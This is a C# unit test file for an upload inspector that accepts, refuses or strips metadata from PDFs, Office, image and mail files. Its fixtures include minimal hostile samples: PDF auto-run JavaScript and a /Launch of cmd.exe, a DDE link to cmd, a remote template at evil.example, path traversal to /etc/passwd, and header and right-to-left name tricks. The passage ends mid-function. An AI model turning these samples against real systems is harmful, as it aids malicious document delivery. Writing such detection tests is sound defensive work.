using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using SmartCityPia.Domain.Evidence;
using SmartCityPia.Domain.Foundation;
using Xunit;

namespace SmartCityPia.UnitTests.Evidence;

public sealed class InspectedFileTests
{
    private static readonly byte[] Gps = "GPS 51.5007 -0.1246"u8.ToArray();
    private static readonly byte[] Profile = [.. "ICC_PROFILE\0"u8, 1, 1, 9, 9];
    /// <summary>Words about scripts, pictures that happen to hold the letters, a template on the writer's own disk.</summary>
    public static TheoryData<string, byte[]> Harmless => new()
    {
        { "words.pdf", [.. "%PDF-1.7\n1 0 obj\n<< /Title (We use JavaScript and /JSON) /JSX 1 >>\nstream\n/JavaScript /JS /Launch "u8, .. "\nendstream\nendobj\n%%EOF\n"u8] },
        { "template.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/_rels/settings.xml.rels", "<Relationships><Relationship Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='file:///C:\\Templates\\Corp.dotm' TargetMode='External'/><Relationship Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink' Target='https://city.example' TargetMode='External'/></Relationships>")) },
    };

    [Theory, MemberData(nameof(Harmless))]
    public void Of_WhatOnlySoundsActive_IsTaken(string name, byte[] file) => Assert.NotNull(InspectedFile.Of(new MemoryStream(file), name));

    private static byte[] Packed(string text)
    {
        using var packed = new MemoryStream();
        using (var packing = new ZLibStream(packed, CompressionMode.Compress))
            packing.Write(System.Text.Encoding.Latin1.GetBytes(text));
        return packed.ToArray();
    }

    private static readonly byte[] Picture = [.. Enumerable.Range(0, 3000).Select(i => (byte)(i * 7 % 251))];

    public static TheoryData<string, byte[], string> Refused => new()
    {
        { "empty.pdf", [], "FileEmpty" },
        { "page.html", "<html>"u8.ToArray(), "FileNotListed" },
        { "picture.svg", "<svg>"u8.ToArray(), "FileNotListed" },
        { "program.pdf.exe", "MZ"u8.ToArray(), "FileNotListed" },
        { "noname", "text"u8.ToArray(), "FileNotListed" },
        { "page.txt", "\uFEFF \n<!DOCTYPE html><script>"u8.ToArray(), "FileMarkup" },
        { "drawing.txt", "<svg onload=x>"u8.ToArray(), "FileMarkup" },
        { "script.txt", "#!/bin/sh\nrm"u8.ToArray(), "FileMarkup" },
        { "program.txt", "MZ\x90\0\x03"u8.ToArray(), "FileNotText" },
        { "wide.txt", [.. Encoding.Unicode.GetBytes("\uFEFF<!DOCTYPE html>")], "FileMarkup" },
        { "wide2.txt", [.. Encoding.BigEndianUnicode.GetBytes("#!/bin/sh")], "FileMarkup" },
        { "binary.txt", [.. Enumerable.Range(0, 4096).Select(i => (byte)(i * 31 >> 3))], "FileNotText" },
        { "escape.txt", "a \x1b[31mred"u8.ToArray(), "FileNotText" },
        { "not.json", "{\"a\": }"u8.ToArray(), "FileMalformed" },
        { "two.json", "{} {}"u8.ToArray(), "FileMalformed" },
        { "letter.eml", "no headers here"u8.ToArray(), "FileMalformed" },
        { "report.png", "%PDF-1.7\n%%EOF"u8.ToArray(), "FileIsOther" },
        { "gif.png", "GIF89a..."u8.ToArray(), "FileIsNot" },
        { "cut.pdf", "%PDF-1.7\n"u8.ToArray(), "FileMalformed" },
        { "two.pdf", "%PDF-1.7\n%%EOF\nPK\x03\x04 and more"u8.ToArray(), "FileAppended" },
        { "late.pdf", "<html>%PDF-1.7\n%%EOF"u8.ToArray(), "FileAppended" },
        { "program.pdf", "MZ\x90\0 %PDF-1.7\n%%EOF"u8.ToArray(), "FileAppended" },
        { "far.pdf", [.. new byte[2000], .. "%PDF-1.7\n%%EOF"u8], "FileIsNot" },
        { "page.pdf", "%PDF-1.7\n%%EOF\n<script>x"u8.ToArray(), "FileAppended" },
        { "picture.png", [0xFF, 0xD8, .. Segment(0xC0, [8, 0, 16, 0, 16, 1, 1, 0x11, 0]), .. Segment(0xDA, [1, 1, 0, 0, 63, 0]), 1, 0xFF, 0xD9], "FileIsOther" },
        { "tail.heic", [.. Heic("heic"), .. "tail"u8], "FileAppended" },
        { "other.heic", Heic("avif"), "FileIsNotTaken" },
        { "old.doc", Compound(("WordDocument", new byte[5000])), "FileNotListed" },
        { "secret.docx", Compound(("EncryptionInfo", new byte[5000]), ("EncryptedPackage", new byte[5000])), "FileEncrypted" },
        { "sent.msg", Compound(("__properties_version1.0", new byte[5000]), ("__substg1.0_3707001F", Padded(Encoding.Unicode.GetBytes("run.exe\0")))), "FileProgramAttached" },
        { "ran.msg", Compound(("__properties_version1.0", new byte[5000]), ("__substg1.0_37010102", Padded("MZ\x90\0"u8.ToArray()))), "FileEmbedded" },
        { "tail.msg", [.. Compound(("__properties_version1.0", new byte[5000])), .. new byte[128 * 512]], "FileAppended" },
        { "cut.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, 1], "FileMalformed" },
        { "blank.jpg", [0xFF, 0xD8, 0xFF, 0xD9], "FileMalformed" },
        { "cut.png", [0x89, 0x50, 0x4E, 0x47, 13, 10, 26, 10, 0, 0, 0, 13], "FileMalformed" },
        { "cut.webp", [.. "RIFF"u8, 0xFF, 0xFF, 0, 0, .. "WEBPVP8 "u8], "FileMalformed" },
        { "some.docx", Zip(("a.txt", "a")), "FileIsNotTaken" },
        { "table.docx", Zip(("[Content_Types].xml", "<a/>"), ("xl/workbook.xml", "<a/>")), "FileIsOther" },
        { "macro.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/vbaProject.bin", "x")), "FileMacros" },
        { "renamed.docx", Zip(("[Content_Types].xml", "<Types><Override PartName='/word/x.bin' ContentType='application/vnd.ms-office.vbaProject'/></Types>"), ("word/document.xml", "<a/>"), ("word/x.bin", "x")), "FileMacros" },
        { "main.docx", Zip(("[Content_Types].xml", "<Types><Override PartName='/word/document.xml' ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"), ("word/document.xml", "<a/>")), "FileMacros" },
        { "related.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/_rels/document.xml.rels", "<Relationships><Relationship Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' Target='y.bin'/></Relationships>")), "FileMacros" },
        { "sheet.xlsx", Zip(("[Content_Types].xml", "<Types><Override PartName='/xl/s.xml' ContentType='application/vnd.ms-excel.macrosheet+xml'/></Types>"), ("xl/workbook.xml", "<a/>")), "FileMacros" },
        { "dde.xlsx", Zip(("[Content_Types].xml", "<a/>"), ("xl/workbook.xml", "<a/>"), ("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService='cmd'/></externalLink>")), "FileActive" },
        { "object.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/_rels/document.xml.rels", "<Relationships><Relationship Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject' Target='o.bin'/></Relationships>")), "FileEmbedded" },
        { "program.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/media/image1.png", "MZ and so on")), "FileEmbedded" },
        { "template.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/_rels/settings.xml.rels", "<Relationships><Relationship Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/></Relationships>")), "FileFetches" },
        { "share.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>"), ("word/_rels/settings.xml.rels", "<Relationships><Relationship Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='file://evil.example/t.dotm' TargetMode='External'/></Relationships>")), "FileFetches" },
        { "event.odt", Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("META-INF/manifest.xml", "<a/>"), ("content.xml", "<a><script:event-listener xmlns:script='s' script:language='ooo:script'/></a>")), "FileActive" },
        { "script.pdf", "%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n"u8.ToArray(), "FileActive" },
        { "escaped.pdf", "%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /J#61vaScript >> >>\nendobj\n%%EOF\n"u8.ToArray(), "FileActive" },
        { "launch.pdf", "%PDF-1.7\n1 0 obj\n<< /A << /S/Launch/F (cmd.exe) >> >>\nendobj\n%%EOF\n"u8.ToArray(), "FileActive" },
        { "embedded.pdf", "%PDF-1.7\n1 0 obj\n<< /Names << /EmbeddedFiles 2 0 R >> >>\nendobj\n%%EOF\n"u8.ToArray(), "FileActive" },
        { "packed.pdf", [.. "%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"u8, .. Packed("<< /S /JavaScript /JS (x) >>"), .. "\nendstream\nendobj\n%%EOF\n"u8], "FileActive" },
        { "secret.odt", Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("META-INF/manifest.xml", "<manifest:encryption-data/>")), "FileEncrypted" },
        { "prefixed.docx", [.. Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>")), .. "tail"u8], "FileAppended" },
        { "both.pdf", [.. "%PDF-1.7\n"u8, .. Zip(("page.html", "<script>"))[..^2], 6, 0, .. "%%EOF\n"u8], "FileAppended" },
        { "wide.png", [0x89, 0x50, 0x4E, 0x47, 13, 10, 26, 10, .. Chunk("IHDR", [0, 0, 0xEA, 0x60, 0, 0, 0xEA, 0x60, 8, 2, 0, 0, 0]), .. Chunk("IDAT", [1]), .. Chunk("IEND", [])], "FileBomb" },
        { "wide.jpg", [0xFF, 0xD8, .. Segment(0xC0, [8, 0xEA, 0x60, 0xEA, 0x60, 1, 1, 0x11, 0]), .. Segment(0xDA, [1, 1, 0, 0, 63, 0]), 1, 0xFF, 0xD9], "FileBomb" },
        { "frame.webp", [.. "RIFF"u8, 72, 0, 0, 0, .. "WEBP"u8, .. Riff("VP8X", [2, 0, 0, 0, 0, 0, 0, 0, 0, 0]), .. Riff("ANMF", [.. new byte[16], .. Riff("EXIF", Gps[..8]), .. Riff("VP8L", [0x2F, 0])])], "FileMalformed" },
        { "bomb.docx", Bomb(), "FileBomb" },
        { "parts.docx", Zip([.. Enumerable.Range(0, 5001).Select(i => (i.ToString(System.Globalization.CultureInfo.InvariantCulture), ""))]), "FileBomb" },
    };

    [Theory, MemberData(nameof(Refused), DisableDiscoveryEnumeration = true)]
    public void Of_HostileOrBroken_SaysWhy(string name, byte[] content, string rule) =>
        Assert.Equal(rule, Assert.Throws<RefusedFileException>(() => InspectedFile.Of(new MemoryStream(content), name)).ErrorAt("File").Rule);

    public static TheoryData<string, byte[], string> Taken => new()
    {
        { "a.PDF", "%PDF-1.7\n1 0 obj\n%%EOF\r\n"u8.ToArray(), "application/pdf" },
        { "a.txt", Encoding.UTF8.GetBytes(new string('é', 40_000) + "€"), "text/plain" },
        { "a.csv", "a;b\n<1;2"u8.ToArray(), "text/csv" },
        { "a.json", Encoding.UTF8.GetBytes($"[{string.Join(',', Enumerable.Repeat("\"" + new string('x', 50_000) + "\"", 9))}]"), "application/json" },
        { "a.eml", "Received: x\nFrom: a@b.example\n\n<html>"u8.ToArray(), "message/rfc822" },
        { "a.docx", Zip(("[Content_Types].xml", "<a/>"), ("word/document.xml", "<a/>")), "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
        { "a.xlsx", Zip(("[Content_Types].xml", "<a/>"), ("xl/workbook.xml", "<a/>")), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
        { "office365.docx", Zip(("_rels/.rels", MainPart("word/document22.xml")), ("[Content_Types].xml", Declared("word/document22.xml", "wordprocessingml.document")), ("word/document22.xml", "<a/>")), "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
        { "office365.xlsx", Zip(("_rels/.rels", MainPart("/xl/book.xml")), ("[Content_Types].xml", Declared("xl/book.xml", "spreadsheetml.sheet")), ("xl/book.xml", "<a/>")), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
        { "printed.pdf", "\x1b%-12345X@PJL\r\n%PDF-1.7\n1 0 obj\n%%EOF\r\n\x1b%-12345X"u8.ToArray(), "application/pdf" },
        { "mailed.pdf", [.. Encoding.ASCII.GetBytes(new string(' ', 1000)), .. "%PDF-1.4\n%%EOF\nprinted 3 May"u8], "application/pdf" },
        { "excel.csv", Encoding.Latin1.GetBytes("Straße;Öffnung\r\n1;2\r\n"), "text/csv; charset=unknown-8bit" },
        { "unicode.txt", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("Spalte\tWert\r\n日本")], "text/plain; charset=utf-16" },
        { "bare.txt", Encoding.Unicode.GetBytes("No mark here\r\n"), "text/plain; charset=utf-16" },
        { "japanese.txt", Encoding.BigEndianUnicode.GetBytes("個人情報\n保護"), "text/plain; charset=utf-16BE" },
        { "sjis.txt", [0x8C, 0xC2, 0x90, 0x6C, 0x8F, 0xEE, 0x95, 0xF1, 0x0D, 0x0A], "text/plain; charset=unknown-8bit" },
        { "jis.txt", [0x1B, 0x24, 0x42, 0x38, 0x44, 0x3F, 0x4D, 0x1B, 0x28, 0x42, 0x0A], "text/plain" },
        { "dos.txt", "The end\r\n\x1a"u8.ToArray(), "text/plain" },
        { "latin.eml", Encoding.Latin1.GetBytes("From: a@b.example\nContent-Type: text/plain; charset=iso-8859-1\n\nÄrger"), "message/rfc822" },
        { "photo.heic", Heic("mif1", "heic"), "image/heic" },
        { "mail.msg", Compound(("__properties_version1.0", new byte[5000]), ("__substg1.0_3707001F", Padded(Encoding.Unicode.GetBytes("plan.pdf\0")))), "application/vnd.ms-outlook" },
        { "a.ods", Zip(("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("META-INF/manifest.xml", "<a/>")), "application/vnd.oasis.opendocument.spreadsheet" },
    };

    [Theory, MemberData(nameof(Taken), DisableDiscoveryEnumeration = true)]
    public async Task Of_GoodFile_KeepsEveryByte(string name, byte[] content, string mediaType)
    {
        var file = InspectedFile.Of(new MemoryStream(content), name);

        Assert.Equal((mediaType, false), (file.MediaType, file.MetadataRemoved));
        Assert.Equal(content, await Stored(file));
    }

    [Theory]
    [InlineData("a.doc", "WordDocument", "application/msword"), InlineData("a.xls", "Workbook", "application/vnd.ms-excel"), InlineData("a.ppt", "PowerPoint Document", "application/vnd.ms-powerpoint")]
    public void Of_OldOffice_IsTakenWhereTheCityAllowsIt(string name, string stream, string type)
    {
        Assert.Equal(type, InspectedFile.Of(new MemoryStream(Compound((stream, new byte[5000]))), name, more: true).MediaType);
        Assert.Equal("FileNotListed", Assert.Throws<RefusedFileException>(() => InspectedFile.Of(new MemoryStream(Compound((stream, new byte[5000]))), name)).ErrorAt("").Rule);
    }

    public static TheoryData<string, byte[], string> OldAndRefused => new()
    {
        { "secret.doc", Compound(("WordDocument", [.. new byte[11], 1, .. new byte[5000]])), "FileEncrypted" },
        { "secret.xls", Compound(("Workbook", [0x09, 0x08, 2, 0, 0, 6, 0x2F, 0, 2, 0, 0, 0, .. new byte[5000]])), "FileEncrypted" },
        { "macros4.xls", Compound(("Workbook", [0x09, 0x08, 2, 0, 0, 6, 0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 1, 0, .. new byte[5000]])), "FileMacros" },
        { "macros.doc", Compound(("WordDocument", new byte[5000]), ("_VBA_PROJECT", new byte[5000])), "FileMacros" },
        { "object.doc", Compound(("WordDocument", new byte[5000]), ("\u0001Ole10Native", new byte[5000])), "FileEmbedded" },
        { "really.doc", Compound(("Workbook", new byte[5000])), "FileIsOther" },
        { "cut.doc", Compound(("WordDocument", new byte[5000]))[..700], "FileMalformed" },
        { "macros.pptx", Zip(("_rels/.rels", MainPart("ppt/p.xml")), ("[Content_Types].xml", Declared("ppt/p.xml", "presentationml.presentation")), ("ppt/p.xml", "<a/>"), ("ppt/vbaProject.bin", "x")), "FileMacros" },
    };

    [Theory, MemberData(nameof(OldAndRefused), DisableDiscoveryEnumeration = true)]
    public void Of_OldOffice_ThatIsDangerousOrProtected_SaysWhy(string name, byte[] content, string rule) =>
        Assert.Equal(rule, Assert.Throws<RefusedFileException>(() => InspectedFile.Of(new MemoryStream(content), name, more: true)).ErrorAt("File").Rule);

    [Fact]
    public void Of_Presentation_IsTakenWhereTheCityAllowsIt() => Assert.Equal("application/vnd.openxmlformats-officedocument.presentationml.presentation",
        InspectedFile.Of(new MemoryStream(Zip(("_rels/.rels", MainPart("ppt/p.xml")), ("[Content_Types].xml", Declared("ppt/p.xml", "presentationml.presentation")), ("ppt/p.xml", "<a/>"))), "a.pptx", more: true).MediaType);

    [Fact]
    public void Of_WrongEnding_NamesTheRightOne() => Assert.Equal([".png", ".jpg"], Assert.Throws<RefusedFileException>(() => InspectedFile.Of(
        new MemoryStream([0xFF, 0xD8, .. Segment(0xC0, [8, 0, 16, 0, 16, 1, 1, 0x11, 0]), .. Segment(0xDA, [1, 1, 0, 0, 63, 0]), 1, 0xFF, 0xD9]), "sign.png")).ErrorAt("").Arguments);

    private static string MainPart(string part) => $"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument' Target='{part}'/></Relationships>";

    private static string Declared(string part, string kind) => $"<Types><Override PartName='/{part}' ContentType='application/vnd.openxmlformats-officedocument.{kind}.main+xml'/></Types>";

    private static byte[] Padded(byte[] content) => [.. content, .. new byte[5000]];

    [Fact]
    public async Task Of_HeicWithExifAndXmp_EmptiesThem_AndKeepsThePicture()
    {
        var heic = HeicOf(Heic("heic")[..16], method: 0);
        var (exif, picture) = (IndexOf(heic, "GPS 48.1 11.5"), IndexOf(heic, "PIXELS"));
        Assert.True(exif > 0 && picture > 0);

        var file = InspectedFile.Of(new MemoryStream(heic), "photo.heic");
        var stored = await Stored(file);

        Assert.True(file.MetadataRemoved);
        Assert.Equal(heic.Length, stored.Length);
        Assert.Equal(-1, IndexOf(stored, "GPS"));
        Assert.Equal(-1, IndexOf(stored, "x:xmpmeta"));
        Assert.Equal(picture, IndexOf(stored, "PIXELS"));
        Assert.Equal(heic.Where((_, i) => stored[i] != 0), stored.Where((b, _) => b != 0));
        Assert.Equal(stored, await Stored(InspectedFile.Of(new MemoryStream(stored), "again.heic")));
    }

    [Fact]
    public void Of_HeicWhosePlacesCannotBeTakenOut_IsRefused()
    {
        foreach (var heic in new[] { HeicOf(Heic("heic")[..16], method: 2), [.. Heic("heic"), 0, 0, 0, 8, .. "moov"u8], [.. Heic("heic"), 0, 0, 0, 24, .. "uuid"u8, .. new byte[16]] })
            Assert.Equal("FileHeicData", Assert.Throws<RefusedFileException>(() => InspectedFile.Of(new MemoryStream(heic), "photo.heic")).ErrorAt("").Rule);
    }

    [Fact]
    public void Of_Macros_AreTakenWhereTheNameSaysThem_AndTheCityAllowsIt()
    {
        static byte[] Document(string main, bool embedded = false) => Zip([("_rels/.rels", MainPart("word/document.xml")), ("word/document.xml", "<a/>"), ("word/vbaProject.bin", "macros"), .. embedded ? [("word/embeddings/o.bin", "\u007fELF")] : Array.Empty<(string, string)>(),
            ("[Content_Types].xml", $"<Types><Override PartName='/word/document.xml' ContentType='{main}'/><Override PartName='/word/vbaProject.bin' ContentType='application/vnd.ms-office.vbaProject'/></Types>")]);
        var macros = Document("application/vnd.ms-word.document.macroEnabled.main+xml");

        Assert.Equal("application/vnd.ms-word.document.macroEnabled.12", InspectedFile.Of(new MemoryStream(macros), "form.docm", macros: true).MediaType);
        Assert.Equal("FileNotListed", Rule("form.docm", macros, false));
        // Under an innocent name, and what is more than macros.
        Assert.Equal("FileMacros", Rule("form.docx", macros, true));
        Assert.Equal("FileEmbedded", Rule("form.docm", Document("application/vnd.ms-word.document.macroEnabled.main+xml", embedded: true), true));
        Assert.Equal("FileIsOther", Rule("form.xlsm", macros, true));

        static string Rule(string name, byte[] file, bool macros) => Assert.Throws<RefusedFileException>(() => InspectedFile.Of(new MemoryStream(file), name, macros: macros)).ErrorAt("").Rule;
    }

    /// <summary>A picture with an EXIF and an XMP item behind it.</summary>
    private static byte[] HeicOf(byte[] ftyp, int method)
    {
        byte[] pixels = [.. "PIXELS"u8], exif = [0, 0, 0, 0, .. "GPS 48.1 11.5"u8], xmp = [.. "<x:xmpmeta>here</x:xmpmeta>"u8];
        byte[] Box(string type, params byte[] content) => [.. BitConverter.GetBytes(System.Net.IPAddress.HostToNetworkOrder(content.Length + 8)), .. Encoding.ASCII.GetBytes(type), .. content];
        byte[] Item(byte id, string kind) => Box("infe", [2, 0, 0, 0, 0, id, 0, 0, .. Encoding.ASCII.GetBytes(kind), 0, .. kind == "mime" ? "application/rdf+xml\0"u8.ToArray() : []]);
        byte[] Meta(int data)
        {
            var at = data;
            byte[] Place(byte id, int length)
            {
                byte[] place = [0, id, 0, (byte)(id == 1 ? 0 : method), 0, 0, 0, 1, .. BitConverter.GetBytes(System.Net.IPAddress.HostToNetworkOrder(at)), .. BitConverter.GetBytes(System.Net.IPAddress.HostToNetworkOrder(length))];
                at += length;
                return place;
            }
            return Box("meta", [0, 0, 0, 0, .. Box("iinf", [0, 0, 0, 0, 0, 3, .. Item(1, "hvc1"), .. Item(2, "Exif"), .. Item(3, "mime")]),
                .. Box("iloc", [1, 0, 0, 0, 0x44, 0, 0, 3, .. Place(1, pixels.Length), .. Place(2, exif.Length), .. Place(3, xmp.Length)])]);
        }
        return [.. ftyp, .. Meta(ftyp.Length + Meta(0).Length + 8), .. Box("mdat", [.. pixels, .. exif, .. xmp])];
    }

    private static int IndexOf(byte[] bytes, string text) => bytes.AsSpan().IndexOf(Encoding.ASCII.GetBytes(text));

    private static byte[] Heic(string brand, params string[] others)
    {
        byte[] brands = [.. Encoding.ASCII.GetBytes(brand), 0, 0, 0, 0, .. others.SelectMany(Encoding.ASCII.GetBytes)];
        return [0, 0, 0, (byte)(8 + brands.Length), .. "ftyp"u8, .. brands, 0, 0, 0, 12, .. "mdat"u8, 1, 2, 3, 4];
    }

    /// <summary>A compound file of version 3 whose streams are all too long for the mini stream.</summary>
    private static byte[] Compound(params (string Name, byte[] Content)[] streams)
    {
        const uint End = 0xFFFFFFFE, Free = 0xFFFFFFFF, Table = 0xFFFFFFFD;
        var (table, sectors, starts) = (new List<uint> { Table }, new List<byte[]>(), new List<uint>());
        var directory = new byte[(streams.Length + 1 + 3) / 4 * 512];
        Put(directory, 0, "Root Entry", 5, End, 0, 1);
        for (var i = 0; i < streams.Length; i++)
        {
            starts.Add((uint)table.Count);
            Add(streams[i].Content);
            Put(directory, i + 1, streams[i].Name, 2, starts[i], (uint)streams[i].Content.Length, Free, i + 2 <= streams.Length ? (uint)(i + 2) : Free);
        }
        var first = (uint)table.Count;
        Add(directory);
        var fat = new byte[512];
        for (var i = 0; i < 128; i++)
            BinaryPrimitives.WriteUInt32LittleEndian(fat.AsSpan(i * 4), i < table.Count ? table[i] : Free);
        var header = new byte[512];
        CompoundFile.Mark.CopyTo(header);
        (header[24], header[26], header[28], header[30], header[32]) = (0x3E, 3, 0xFE, 9, 6);
        header[29] = 0xFF;
        BinaryPrimitives.WriteUInt32LittleEndian(header.AsSpan(44), 1);
        BinaryPrimitives.WriteUInt32LittleEndian(header.AsSpan(48), first);
        BinaryPrimitives.WriteUInt32LittleEndian(header.AsSpan(56), 4096);
        BinaryPrimitives.WriteUInt32LittleEndian(header.AsSpan(60), End);
        BinaryPrimitives.WriteUInt32LittleEndian(header.AsSpan(68), End);
        for (var at = 80; at < 512; at += 4)
            BinaryPrimitives.WriteUInt32LittleEndian(header.AsSpan(at), Free);
        return [.. header, .. fat, .. sectors.SelectMany(s => s)];

        void Add(byte[] content)
        {
            var count = (content.Length + 511) / 512;
            for (var i = 0; i < count; i++)
            {
                var sector = new byte[512];
                content.AsSpan(i * 512, Math.Min(512, content.Length - (i * 512))).CopyTo(sector);
                sectors.Add(sector);
                table.Add(i + 1 < count ? (uint)(table.Count + 1) : End);
            }
        }

        static void Put(byte[] directory, int id, string name, byte kind, uint first, uint size, uint child, uint right = Free)
        {
            var entry = directory.AsSpan(id * 128, 128);
            Encoding.Unicode.GetBytes(name).CopyTo(entry);
            BinaryPrimitives.WriteUInt16LittleEndian(entry[64..], (ushort)((name.Length + 1) * 2));
            entry[66] = kind;
            BinaryPrimitives.WriteUInt32LittleEndian(entry[68..], Free);
            BinaryPrimitives.WriteUInt32LittleEndian(entry[72..], right);
            BinaryPrimitives.WriteUInt32LittleEndian(entry[76..], child);
            BinaryPrimitives.WriteUInt32LittleEndian(entry[116..], first);
            BinaryPrimitives.WriteUInt32LittleEndian(entry[120..], size);
        }
    }

    [Fact]
    public async Task Of_JpegFromATelephone_LosesAllButPictureAndWayUp()
    {
        byte[] xmp = Joined("http://ns.adobe.com/xap/1.0/\0"), mpf = Joined("MPF\0"), appended = Joined("appended film");
        byte[] tables = Segment(0xDB, [0, 1, 2, 3]), frame = Segment(0xC0, [8, 0, 1, 0, 1, 1, 1, 0x11, 0]), scan = Segment(0xDA, [1, 1, 0, 0, 63, 0]), profile = Segment(0xE2, Profile);
        // Stuffed bytes and restart markers belong to the image data.
        byte[] data = [.. Picture.Where(b => b != 0xFF), 0xFF, 0x00, 5, 0xFF, 0xD3, 6];
        byte[] jpeg =
        [
            0xFF, 0xD8, .. Segment(0xE1, Exif(6)), .. Segment(0xE1, xmp), .. Segment(0xED, Gps), .. Segment(0xE2, mpf), .. profile,
            .. Segment(0xFE, Gps), .. tables, .. frame, .. scan, .. data, .. scan, .. data, 0xFF, 0xD9, .. appended,
        ];

        var file = InspectedFile.Of(new MemoryStream(jpeg), "a.jpeg");
        var stored = await Stored(file);

        Assert.True(file.MetadataRemoved);
        Assert.Equal(-1, stored.AsSpan().IndexOf("GPS"u8));
        byte[] orientation = stored[2..38];
        Assert.Equal((0xE1, 6), (orientation[1], orientation[29]));
        byte[] expected = [0xFF, 0xD8, .. orientation, .. profile, .. tables, .. frame, .. scan, .. data, .. scan, .. data, 0xFF, 0xD9];
        Assert.Equal(expected, stored);
        // A stored file passes unchanged a second time, except for the orientation, which is written again.
        Assert.Equal(stored, await Stored(InspectedFile.Of(new MemoryStream(stored), "a.jpg")));
    }

    [Fact]
    public async Task Of_Png_LosesTextAndTime()
    {
        byte[] head = [0x89, 0x50, 0x4E, 0x47, 13, 10, 26, 10, .. Chunk("IHDR", new byte[13])];
        byte[] png = [.. head, .. Chunk("tEXt", Gps), .. Chunk("eXIf", Exif(1)), .. Chunk("iTXt", Gps), .. Chunk("zTXt", Gps), .. Chunk("tIME", new byte[7]), .. Chunk("prVt", Gps), .. Chunk("IDAT", Picture), .. Chunk("IEND", []), .. Gps];

        var file = InspectedFile.Of(new MemoryStream(png), "a.png");

        Assert.True(file.MetadataRemoved);
        byte[] expected = [.. head, .. Chunk("IDAT", Picture), .. Chunk("IEND", [])];
        Assert.Equal(expected, await Stored(file));
    }

    [Fact]
    public async Task Of_WebP_LosesExifAndSaysSoInItsHeader()
    {
        byte[] WebP(byte flags, params byte[][] chunks)
        {
            byte[] body = [.. "WEBP"u8, .. Riff("VP8X", [flags, 0, 0, 0, 1, 0, 0, 1, 0, 0]), .. chunks.SelectMany(c => c)];
            var size = new byte[4];
            BinaryPrimitives.WriteInt32LittleEndian(size, body.Length);
            return [.. "RIFF"u8, .. size, .. body];
        }
        var picture = Riff("VP8L", Picture[..2999]);
        byte[] webp = [.. WebP(0x2C, picture, Riff("EXIF", Exif(1)), Riff("XMP ", Gps)), .. Gps];

        var file = InspectedFile.Of(new MemoryStream(webp), "a.webp");

        Assert.Equal(WebP(0x20, picture), await Stored(file));
    }

    [Theory]
    [InlineData("a.pdf", "a.pdf"), InlineData("C:\\fakepath\\..\\é\u202Egpj.exe", "égpj.exe"), InlineData("../../etc/passwd", "passwd"), InlineData("a\r\nSet-Cookie: x.pdf", "aSet-Cookie x.pdf"), InlineData("  ...", "file"), InlineData(null, "file"), InlineData("\uD800x.txt", "x.txt")]
    [InlineData("a\u3164\u2800\u2066.pdf", "a.pdf"), InlineData("می\u200Cخواهم.pdf", "می\u200Cخواهم.pdf")]
    public void Sanitise_StrangeName_IsAPlainOne(string? name, string expected) => Assert.Equal(expected, FileNames.Sanitise(name));

    [Fact]
    public void Sanitise_LongName_KeepsItsEnding() =>
        Assert.Matches("^x{146}\\.pdf$", FileNames.Sanitise(new string('x', 400) + ".pdf"));

    private static async Task<byte[]> Stored(InspectedFile file)
    {
        var stored = new MemoryStream();
        await foreach (var block in file.Content.Blocks(TestContext.Current.CancellationToken))
            stored.Write(block.Span);
        Assert.Equal(file.Content.Length, stored.Length);
        return stored.ToArray();
    }

    private static byte[] Joined(string before) => [.. Encoding.ASCII.GetBytes(before), .. Gps];

    private static byte[] Segment(byte marker, byte[] data) => [0xFF, marker, (byte)((data.Length + 2) >> 8), (byte)(data.Length + 2), .. data];

    private static byte[] Chunk(string type, byte[] data)
    {
        var length = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(length, data.Length);
        return [.. length, .. Encoding.ASCII.GetBytes(type), .. data, 1, 2, 3, 4];
    }

    private static byte[] Riff(string type, byte[] data)
    {
        var length = new byte[4];
        BinaryPrimitives.WriteInt32LittleEndian(length, data.Length);
        return [.. Encoding.ASCII.GetBytes(type), .. length, .. data, .. new byte[data.Length & 1]];
    }

    /// <summary>Little-endian, with a manufacturer's entry before the orientation.</summary>
    private static byte[] Exif(byte orientation) =>
        [.. "Exif\0\0II"u8, 42, 0, 8, 0, 0, 0, 2, 0, 0x0F, 0x01, 2, 0, 4, 0, 0, 0, 65, 66, 67, 0, 0x12, 0x01, 3, 0, 1, 0, 0, 0, orientation, 0, 0, 0, 0, 0, 0, 0, .. Gps];

    private static byte[] Zip(params (string Name, string Text)[] parts)
    {
